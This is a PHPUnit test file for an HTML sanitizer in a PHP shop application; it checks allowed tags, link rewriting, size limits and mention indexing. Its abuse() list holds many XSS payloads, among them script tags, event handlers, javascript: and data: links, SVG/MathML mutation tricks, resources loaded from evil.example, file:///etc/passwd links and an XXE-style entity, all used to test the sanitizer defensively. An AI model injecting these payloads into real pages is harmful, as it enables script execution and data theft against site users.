<?php

declare(strict_types=1);

namespace Lantern\Tests\Workbench\Words;

use Eris\Generators;
use Eris\TestTrait;
use Lantern\Core\Policy\StartingText;
use Lantern\Core\Refused;
use Lantern\Core\Words\Reference;
use Lantern\Core\Words\Words;
use Lantern\Demo\DemoId;
use Lantern\Tests\ShopTestCase;
use Lantern\Workbench\Places\PlaceEditor;
use Lantern\Workbench\Words\WordsCleaner;
use Masterminds\HTML5;
use PHPUnit\Framework\Attributes\DataProvider;

final class WordsCleanerTest extends ShopTestCase
{
    use TestTrait;

    /** Whatever is sent, what is stored is made of these alone. */
    private const ELEMENTS = [
        'p',
        'h2',
        'h3',
        'h4',
        'ul',
        'ol',
        'li',
        'blockquote',
        'hr',
        'br',
        'pre',
        'strong',
        'em',
        's',
        'code',
        'sub',
        'sup',
        'a',
        'img',
        'video',
        'span',
        'table',
        'thead',
        'tbody',
        'tr',
        'th',
        'td',
    ];
    private const ATTRIBUTES = [
        'id',
        'start',
        'href',
        'class',
        'src',
        'poster',
        'alt',
        'aria-label',
        'data-blank',
        'colspan',
        'rowspan',
        'scope',
    ];

    public function testNothingThatIsPastedCanRun(): void
    {
        $cases = 0;
        foreach (self::abuse() as $name => $html) {
            $this->assertHarmless($html, $name);
            // Nor when it stands in the middle of something else, where parsers may read it otherwise.
            $this->assertHarmless("<table><tr><td>$html</td></tr></table><ul><li>$html</ul><p>$html", "$name, nested");
            ++$cases;
        }
        self::assertGreaterThanOrEqual(60, $cases);
    }

    public function testCleaningTwiceChangesNothingMore(): void
    {
        $pieces = array_values(self::abuse());
        $this->limitTo(60)->forAll(
            Generators::seq(Generators::choose(0, \count($pieces) - 1)),
        )->then(function (array $picked) use ($pieces): void {
            /** @var list<int> $picked */
            $html = implode(' ', array_map(static fn (int $n): string => $pieces[$n], \array_slice($picked, 0, 8)));
            $once = $this->clean($html);
            self::assertSame($once, $this->clean($once));
            self::assertHarmlessHtml($once, $html);
        });
    }

    public function testTheTextsThatShipAreCleanAsTheyAre(): void
    {
        foreach (StartingText::cases() as $text) {
            self::assertSame($text->html(), $this->clean($text->html()), $text->value);
        }
    }

    #[DataProvider('kept')]
    public function testWhatATextIsMadeOfStays(string $html, string $stored): void
    {
        $shop = $_SERVER['LANTERN_STOREFRONT_URL'] ?? null;
        self::assertIsString($shop);
        self::assertSame($stored, $this->clean(str_replace('{shop}', $shop, $html)));
    }

    /** @return iterable<string, array{string, string}> {shop} is where the shop is */
    public static function kept(): iterable
    {
        $papers = DemoId::of('categories/papers');
        $chart = DemoId::of('files/grain-chart');
        yield 'headings get anchors, each once' => [
            '<h1>Fold it</h1><h2>Fold it</h2><h6 id="Wet It">Wet</h6>',
            '<h2 id="fold-it">Fold it</h2><h2 id="fold-it-2">Fold it</h2><h4 id="wet-it">Wet</h4>',
        ];
        yield 'a wrapper goes, its words stay' => [
            '<section><div><div>one <font color="red">two</font></div></div></section>',
            '<p>one two</p>',
        ];
        yield 'old names for the same' => ['<p><b>a</b><i>b</i><strike>c</strike></p>', '<p><strong>a</strong><em>b</em><s>c</s></p>'];
        yield 'a typed address of this shop' => ['<a href="/papers">x</a>', "<a href=\"place:$papers\">x</a>"];
        yield 'with its part' => ['<a href="/papers#stone">x</a>', "<a href=\"place:$papers#stone\">x</a>"];
        yield 'in another form' => ['<a href="/PAPERS/">x</a>', "<a href=\"place:$papers\">x</a>"];
        yield 'one that leads on by a redirect' => [
            '<a href="/calendars">x</a>',
            '<a href="place:'.DemoId::of('categories/calendar-kits').'">x</a>',
        ];
        yield 'the whole address, with its domain' => ['<a href="{shop}/papers">x</a>', "<a href=\"place:$papers\">x</a>"];
        yield 'one copied from a look at the workbench' => [
            '<a href="{shop}/-/preview/abc.def/papers">x</a>',
            "<a href=\"place:$papers\">x</a>",
        ];
        yield 'one that leads nowhere stays typed' => ['<a href="/nowhere">x</a>', '<a href="/nowhere">x</a>'];
        yield 'one with a query stays typed' => ['<a href="/search?q=silk">x</a>', '<a href="/search?q=silk">x</a>'];
        yield 'a button' => [
            '<a class="button big" href="/papers">x</a><a class="button" href="/papers">x</a>',
            "<a href=\"place:$papers\">x</a><a href=\"place:$papers\" class=\"button\">x</a>",
        ];
        yield 'outside, mail and phone' => [
            '<a href="https://else.example/a?b=c&amp;d=e">o</a><a href="mailto:a@b.example">m</a><a href="tel:+44 20 1234">t</a>',
            '<a href="https://else.example/a?b=c&amp;d=e">o</a><a href="mailto:a@b.example">m</a><a href="tel:+44201234">t</a>',
        ];
        yield 'a picture by its address' => [
            '<img src="/files/paper-grain-chart.pdf" alt="A chart" width="5">',
            "<img src=\"place:$chart\" alt=\"A chart\" />",
        ];
        yield 'a video with its poster, without what would start it' => [
            '<video src="/files/paper-grain-chart.pdf" poster="/files/paper-grain-chart.pdf" aria-label="A fold" autoplay loop muted '
                .'onplay="x()">words <source src="/papers"></video>',
            "<video src=\"place:$chart\" poster=\"place:$chart\" aria-label=\"A fold\"></video>",
        ];
        yield 'a video from elsewhere' => [
            '<p>a</p><video src="https://else.example/a.mp4"></video><video><source src="/papers"></video><video src="place:'.$chart
                .'" poster="https://else.example/p.png"></video>',
            "<p>a</p><video src=\"place:$chart\"></video>",
        ];
        yield 'a blank' => [
            '<span data-blank="mail">typed over</span><span data-blank="iban">x</span><span class="y">z</span>',
            '<span data-blank="mail"></span>xz',
        ];
        yield 'a table' => [
            '<table class="x" style="y"><thead><tr><th scope="col" colspan="2">a</th></tr></thead><tbody><tr><td '
                .'rowspan="999">b</td></tr></tbody></table>',
            '<table><thead><tr><th colspan="2" scope="col">a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
        ];
        yield 'letters as they were typed' => [
            '<p>a@b = c + d `e` "f" ’g’ 紙 &lt;h&gt; &amp;</p>',
            '<p>a@b = c + d `e` &#34;f&#34; ’g’ 紙 &lt;h&gt; &amp;</p>',
        ];
        yield 'a space at the end' => ['<p>See </p>', '<p>See </p>'];
    }

    public function testSaysWhatItTookOut(): void
    {
        $cleaned = $this->service(
            WordsCleaner::class,
        )->clean(
            '<p onclick="x()">a</p><script>b</script><a href="JavaScript:c()">d</a><img src="https://else.example/e.png"><p '
                .'onclick="y()">f</p>',
        );
        self::assertSame(
            ['onclick', '<script>', 'a link to javascript:', 'a picture that is not one of this shop’s files'],
            $cleaned->takenOut,
        );
        self::assertSame('<p>a</p>d<p>f</p>', $cleaned->words->html);
        self::assertSame(
            [],
            $this->service(WordsCleaner::class)->clean('<p style="color:red" class="MsoNormal">a</p>')->takenOut,
            'nobody misses the looks of another program',
        );
    }

    #[DataProvider('tooMuch')]
    public function testATextHasItsLimits(string $html, string $says): void
    {
        $this->expectException(Refused::class);
        $this->expectExceptionMessage($says);
        $this->clean($html);
    }

    /** @return iterable<string, array{string, string}> */
    public static function tooMuch(): iterable
    {
        yield 'too long' => [str_repeat('<p>words</p>', 40_000), 'Make two pages of it.'];
        yield 'too deep' => [str_repeat('<blockquote>', 80).'x', 'inside one another'];
        yield 'much too deep' => [str_repeat('<b>', 20_000).'x', 'inside one another'];
    }

    public function testARefusedTextLeavesTheOneThatIsThere(): void
    {
        $id = DemoId::of('pages/care-of-paper');
        $before = $this->value('SELECT html FROM words WHERE id = ?', $id);
        try {
            $this->service(PlaceEditor::class)->writeWords($id, 1, str_repeat('<p>words</p>', 40_000), $this->actor());
            self::fail('It was stored.');
        } catch (Refused) {
            self::assertSame(
                [$before, '1'],
                [$this->value('SELECT html FROM words WHERE id = ?', $id), $this->value('SELECT version FROM place WHERE id = ?', $id)],
            );
        }
    }

    /** The database reads texts for itself; it has to find what the core finds. */
    public function testTheDatabaseNotesTheSameMentions(): void
    {
        $id = DemoId::of('pages/care-of-paper');
        $html = '<h2 id="a">A</h2><p><a href="/papers#x" class="button">1</a> <a href="/no/such?x=1#y">2</a> href="place:x"</p><img '
            .'src="/files/paper-grain-chart.pdf" alt="a > b"><video src="/files/paper-grain-chart.pdf" '
            .'poster="/files/care-of-paper.pdf"></video><a href="https://else.example">3</a><a href="/a&amp;b">4</a>';
        $this->service(PlaceEditor::class)->writeWords($id, 1, $html, $this->actor());
        $all = $this->pairs('SELECT id, html FROM words');
        self::assertGreaterThan(20, \count($all));
        $found = 0;
        foreach ($all as $source => $text) {
            $expected = array_map(
                static fn (Reference $one): array => [$one->form, $one->placeId, $one->address, $one->part],
                (new Words($text))->references(),
            );
            $noted = array_map(array_values(...), $this->workbench()->fetchAllAssociative(<<<'SQL'
                SELECT form, place_id, address, part FROM text_mention WHERE source_id = ? ORDER BY nth
                SQL, [$source]));
            self::assertSame($expected, $noted, $text);
            $found += \count($noted);
        }
        self::assertGreaterThan(20, $found);
        $this->workbench()->executeStatement('DELETE FROM words WHERE id = ?', [$id]);
        self::assertSame('0', $this->value('SELECT count(*) FROM text_mention WHERE source_id = ?', $id));
    }

    private function assertHarmless(string $html, string $name): void
    {
        self::assertHarmlessHtml($this->clean($html), $name);
    }

    private static function assertHarmlessHtml(string $html, string $name): void
    {
        // Read as a browser reads it, not as it was written.
        $fragment = (new HTML5(['disable_html_ns' => true]))->loadHTMLFragment($html);
        $walk = static function (\DOMNode $node) use (&$walk, $name, $html): void {
            foreach ($node->childNodes as $child) {
                self::assertNotInstanceOf(\DOMComment::class, $child, "$name: $html");
                if ($child instanceof \DOMElement) {
                    self::assertContains($child->nodeName, self::ELEMENTS, "$name: $html");
                    foreach ($child->attributes as $attribute) {
                        self::assertContains($attribute->nodeName, self::ATTRIBUTES, "$name: $html");
                        if (\in_array($attribute->nodeName, ['href', 'src'], true)) {
                            self::assertMatchesRegularExpression(
                                '~^(place:[0-9a-f-]{36}(#|$)|/(?![/\\\\])|/$|#|https?://|mailto:|tel:)~',
                                (string) $attribute->nodeValue,
                                "$name: $html",
                            );
                        }
                    }
                }
                $walk($child);
            }
        };
        $walk($fragment);
    }

    private function clean(string $html): string
    {
        return $this->service(WordsCleaner::class)->clean($html)->words->html;
    }

    /** @return array<string, string> */
    private static function abuse(): array
    {
        $js = 'alert(1)';

        return [
            'script' => "<script>$js</script>",
            'script in capitals' => '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
            'script, broken' => '<scr<script>ipt>alert(1)</scr</script>ipt>',
            'script without an end' => '<script>alert(1)//',
            'script with a slash' => '<script/x>alert(1)</script>',
            'script after a null' => "<scr\0ipt>$js</script>",
            'onclick' => "<p onclick=$js>x</p>",
            'onerror' => "<img src=x onerror=$js>",
            'onerror with a slash' => "<img/src=x/onerror=$js>",
            'onload of a drawing' => "<svg onload=$js>",
            'script in a drawing' => "<svg><script>$js</script></svg>",
            'drawing with a link' => "<svg><a xlink:href=\"javascript:$js\"><text>x</text></a></svg>",
            'drawing that moves' => "<svg><animate onbegin=$js attributeName=x></svg>",
            'drawing with a style' => '<svg><style><img src=x onerror=alert(1)></style></svg>',
            'drawing with HTML' => '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
            'mathematics' => '<math href="javascript:alert(1)">x</math>',
            'mathematics, mutated' => '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
                .'onerror=alert(1)&gt;">',
            'form in mathematics' => '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
            'noscript, mutated' => '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
            'template' => '<template><img src=x onerror=alert(1)></template>',
            'javascript link' => "<a href=\"javascript:$js\">x</a>",
            'javascript link, mixed' => "<a href=\"JaVaScRiPt:$js\">x</a>",
            'javascript link with a tab' => "<a href=\"java\tscript:$js\">x</a>",
            'javascript link with a line end' => "<a href=\"java\nscript:$js\">x</a>",
            'javascript link with an entity' => '<a href="java&#x09;script:alert(1)">x</a>',
            'javascript link, all entities' => '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
            'javascript link after a space' => "<a href=\" javascript:$js\">x</a>",
            'javascript link after a control' => "<a href=\"\x01javascript:$js\">x</a>",
            'javascript link, invisible letter' => "<a href=\"java\u{200b}script:$js\">x</a>",
            'vbscript link' => '<a href="vbscript:msgbox(1)">x</a>',
            'data link' => '<a href="data:text/html,<script>alert(1)</script>">x</a>',
            'data link in base64' => '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
            'file link' => '<a href="file:///etc/passwd">x</a>',
            'view-source link' => '<a href="view-source:javascript:alert(1)">x</a>',
            'blob link' => '<a href="blob:https://evil.example/1">x</a>',
            'a host without a scheme' => '<a href="//evil.example/x">x</a>',
            'a host behind backslashes' => '<a href="/\\evil.example">x</a>',
            'a host behind many slashes' => '<a href="https:///evil.example">x</a>',
            'a place that is none' => '<a href="place:javascript:alert(1)">x</a>',
            'a place with more behind it' => '<a href=\'place:019344a0-1c00-7532-aafa-e3a184482d95" onclick="alert(1)\'>x</a>',
            'a picture from elsewhere' => '<img src="https://evil.example/pixel.gif">',
            'a picture of data' => '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
            'a picture of script' => "<img src=\"javascript:$js\">",
            'a set of pictures' => '<img srcset="https://evil.example/x 2x" src="/files/paper-grain-chart.pdf">',
            'frame' => '<iframe src="https://evil.example"></iframe>',
            'frame of its own' => '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
            'object' => '<object data="javascript:alert(1)"></object>',
            'embed' => '<embed src="javascript:alert(1)">',
            'form' => '<form action="javascript:alert(1)"><input type=submit></form>',
            'button that sends' => '<button formaction="javascript:alert(1)">x</button>',
            'field with focus' => "<input autofocus onfocus=$js>",
            'details' => "<details open ontoggle=$js>x</details>",
            'video' => "<video><source onerror=$js></video>",
            'audio' => "<audio src onerror=$js>",
            'style' => '<style>@import "https://evil.example/x.css";</style>',
            'style attribute' => '<p style="background:url(javascript:alert(1))">x</p>',
            'style that covers the page' => '<p style="position:fixed;inset:0">x</p>',
            'link to a style' => '<link rel=stylesheet href="https://evil.example/x.css">',
            'meta refresh' => '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
            'base' => '<base href="https://evil.example/">',
            'conditional comment' => '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
            'comment that ends early' => '<!--><img src=x onerror=alert(1)>-->',
            'comment that ends oddly' => '<!-- --!><img src=x onerror=alert(1)> -->',
            'CDATA' => '<![CDATA[<script>alert(1)</script>]]>',
            'processing instruction' => '<?xml-stylesheet href="javascript:alert(1)"?>',
            'title' => '<title><img src=x onerror=alert(1)></title>',
            'plaintext' => '<plaintext><script>alert(1)</script>',
            'xmp' => '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
            'attribute without quotes' => '<p title=`x` onmouseover=alert(1)>x</p>',
            'attribute with a broken quote' => '<p title="x\"onmouseover=alert(1) ">x</p>',
            'id that names a property' => '<h2 id="__proto__">x</h2><h2 id="getElementById">y</h2><a id="x" name="cookie">z</a>',
            'class of the program' => '<a class="skip" href="/papers">x</a>',
            'data for scripts' => '<p data-entry="x" data-bay="header">x</p>',
            'blank that is none' => '<span data-blank="<script>alert(1)</script>">x</span>',
            'custom element' => '<x-evil onclick=alert(1)>x</x-evil>',
            'marquee' => '<marquee onstart=alert(1)>x</marquee>',
            'letters that are not UTF-8' => "<p>\xc3\x28<script>alert(1)</script>\xff</p>",
            'full width letters' => '＜script＞alert(1)＜/script＞',
            'doctype' => '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>',
        ];
    }
}
